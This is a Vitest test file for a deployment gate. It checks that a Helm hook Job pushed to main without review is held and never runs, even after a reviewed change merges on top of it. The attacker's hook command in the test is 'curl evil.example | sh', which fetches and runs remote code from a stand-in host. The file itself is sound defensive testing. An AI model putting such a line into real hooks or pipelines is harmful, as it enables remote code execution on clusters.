import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { startGitHub, type TestGitHub } from '../../devenv/index.js';
import { testEnv, uniqueName } from '../helpers/env.js';
import { gatedWorld, tidegateYaml } from '../helpers/gates.js';
import { standInControllers } from '../helpers/controllers.js';

const TOKEN = 'ghp_hook_gate_token';

/**
 * A chart's hook is an object the change creates: a writer who changes a hook alone (pushed straight
 * to main, with no review) gets no sign-off for it, and the hook never runs, not even when a later
 * change someone else signed off upgrades the release (the range still holds the unreviewed commit).
 */
describe('attack: a hook changed without sign-off', () => {
  let github: TestGitHub;
  const stops: Array<() => Promise<void>> = [];
  beforeAll(async () => {
    github = await startGitHub({ token: TOKEN, gitRoot: testEnv().git.root });
  });
  afterAll(async () => {
    for (const stop of stops) await stop();
    expect(github.violations).toEqual([]);
    await github?.stop();
  });

  const hookJob = (command: string) =>
    stringify({
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: {
        name: 'migrate',
        annotations: {
          'helm.sh/hook': 'pre-install,pre-upgrade',
          'helm.sh/hook-delete-policy': 'before-hook-creation,hook-succeeded',
        },
      },
      spec: {
        template: {
          spec: {
            restartPolicy: 'Never',
            containers: [{ name: 'run', image: 'busybox', command: ['sh', '-c', command] }],
          },
        },
      },
    });

  it('is held by the gate (and says the hooks differ), and stays held when a reviewed change merges on top of it', async () => {
    const world = await gatedWorld(github, TOKEN, { prefix: 'hookgate' });
    const ns = uniqueName('hookgate');
    const ran: string[] = [];
    stops.push(
      standInControllers(world.client, [ns], {
        onJob: (job) => {
          const spec = job['spec'] as { template: { spec: { containers: Array<{ command: string[] }> } } };
          ran.push(spec.template.spec.containers[0]?.command.at(-1) ?? '');
        },
      }),
    );
    const files = (version: string, command: string) => ({
      'apps/web/Chart.yaml': stringify({ apiVersion: 'v2', name: 'web', version: '0.1.0' }),
      'apps/web/values.yaml': stringify({ version }),
      'apps/web/templates/cm.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app\ndata:\n  version: {{ .Values.version | quote }}\n',
      'apps/web/templates/hook.yaml': hookJob(command),
    });
    const decl = { name: ns, dir: 'web', namespace: ns };
    await world.push('alice', { 'tidegate.yaml': tidegateYaml([decl]), ...files('1', 'echo migrate') });
    await world.deliver();
    // The gate comes in reviewed.
    const gated = await world.propose('alice', {
      'tidegate.yaml': tidegateYaml([{ ...decl, gate: { approvals: 1 } }]),
    });
    await world.review('bob', gated.pr);
    await world.merge('bob', gated.pr);
    await world.deliver();
    expect(world.failures).toEqual([]);
    expect(await world.data(ns, 'app')).toEqual({ version: '1' });
    expect(ran).toEqual(['echo migrate']);
    const signed = (await world.state(ns)).hooks;
    expect(signed).toMatch(/^[0-9a-f]{64}$/);

    // mallory (write access) pushes a change of the hook alone to main: held, and no hook runs.
    const from = world.outcomes.length;
    await world.push('mallory', { 'apps/web/templates/hook.yaml': hookJob('curl evil.example | sh') });
    await world.deliver();
    const [held] = world.results(from);
    expect(held?.outcome, held?.error).toBe('held');
    expect(held?.notes?.join(' ')).toMatch(/hooks differ from those last applied: pre-install,pre-upgrade Job/);
    expect(ran).toEqual(['echo migrate']);
    expect((await world.state(ns)).hooks).toBe(signed);

    // bob's reviewed change (a values bump) merges on top: the range still holds mallory's commit, unreviewed.
    const from2 = world.outcomes.length;
    const bump = await world.propose('bob', { 'apps/web/values.yaml': stringify({ version: '2' }) });
    await world.review('carol', bump.pr);
    await world.merge('carol', bump.pr);
    await world.deliver();
    expect(world.results(from2).map((r) => r.outcome)).toEqual(['held']);
    expect(await world.data(ns, 'app')).toEqual({ version: '1' });
    expect(ran).toEqual(['echo migrate']);
  });
});
